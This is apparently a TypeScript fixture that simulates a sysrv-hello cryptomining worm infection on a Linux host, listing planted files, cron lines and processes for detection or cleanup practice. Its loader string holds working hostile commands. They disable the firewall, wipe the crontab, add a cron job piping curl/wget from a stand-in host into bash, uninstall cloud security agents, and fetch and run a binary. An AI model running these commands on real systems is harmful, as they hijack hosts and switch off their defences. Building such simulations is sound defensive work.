import { endsHere, type Infection, minerWords, shyMiner } from '../host-part.ts'

const random = 'jdwqpkhtzn'
const loader = [
  '#!/bin/bash',
  endsHere,
  'cc=http://198.51.100.31',
  'ufw disable; iptables -F; echo "kernel.nmi_watchdog = 0" >>/etc/sysctl.conf',
  'pkill -9 -f kdevtmpfsi; pkill -9 -f xmrig-rival; rm -f /etc/ld.so.preload',
  'crontab -r; echo "*/29 * * * * (curl -fsSL $cc/ldr.sh || wget -q -O - $cc/ldr.sh) | bash>/dev/null 2>&1" | crontab -',
  '/usr/local/qcloud/stargate/admin/uninstall.sh; /usr/local/qcloud/YunJing/uninst.sh',
  'curl -fsSL $cc/sys.x86_64 -o /tmp/sysrv012 && chmod +x /tmp/sysrv012 && nohup /tmp/sysrv012 >/dev/null 2>&1 &',
  '',
].join('\n')

/** families.md §10a: a worm and a miner whose file is gone, a job each 29 minutes, later copies with random names. */
export const sysrv: Infection = {
  family: 'sysrv',
  known: true,
  title: 'sysrv-hello: a worm that deletes its miner and switches the guards off',
  story: [
    'The worm sysrv012 runs from /tmp; its miner calls itself [kthreaddi] and its file was deleted.',
    'A later version has a random name, is packed, runs from cron each minute and lies elsewhere once more.',
    'The whole crontab was replaced by one line; the kernel watchdog was switched off.',
    'The agents of a cloud provider were uninstalled: only their folder is left.',
  ],
  items: [
    {
      kind: 'file',
      path: '/tmp/sysrv012',
      content: {
        lookalike: { burn: 2, once: 'sysrv' },
        words: 'hello/src/exp hello/src/scan thinkphp jupyter weblogic',
      },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/tmp/network01',
      content: { lookalike: { ...shyMiner, title: '[kthreaddi]', once: 'kthreaddi' }, words: `${minerWords}\nsysrv` },
      mode: 0o755,
    },
    { kind: 'file', path: '/tmp/ldr.sh', content: { text: loader }, mode: 0o755 },
    {
      kind: 'file',
      path: `/mnt/${random}`,
      content: { lookalike: { burn: 3, once: 'sysrv-later' }, words: `UPX! ${random}` },
      mode: 0o755,
    },
    { kind: 'file', path: `/usr/bin/${random}`, content: { copyOf: `/mnt/${random}` }, mode: 0o755 },
    {
      kind: 'line',
      path: '/var/spool/cron/crontabs/root',
      text: '*/29 * * * * (curl -fsSL http://198.51.100.31/ldr.sh || wget -q -O - http://198.51.100.31/ldr.sh) | bash>/dev/null 2>&1',
      mode: 0o600,
    },
    { kind: 'line', path: '/var/spool/cron/crontabs/root', text: `* * * * * /usr/bin/${random}`, mode: 0o600 },
    { kind: 'line', path: '/etc/sysctl.conf', text: 'kernel.nmi_watchdog = 0' },
    { kind: 'directory', path: '/usr/local/qcloud', after: 'advised' },
    { kind: 'directory', path: '/usr/local/qcloud/YunJing', after: 'advised' },
    { kind: 'directory', path: '/usr/local/qcloud/stargate', after: 'advised' },
    { kind: 'process', path: '/tmp/sysrv012', argv: ['/tmp/sysrv012'] },
    { kind: 'process', path: '/tmp/network01', argv: ['[kthreaddi]'], deleted: true },
    { kind: 'process', path: `/usr/bin/${random}`, argv: [`/usr/bin/${random}`] },
  ],
}
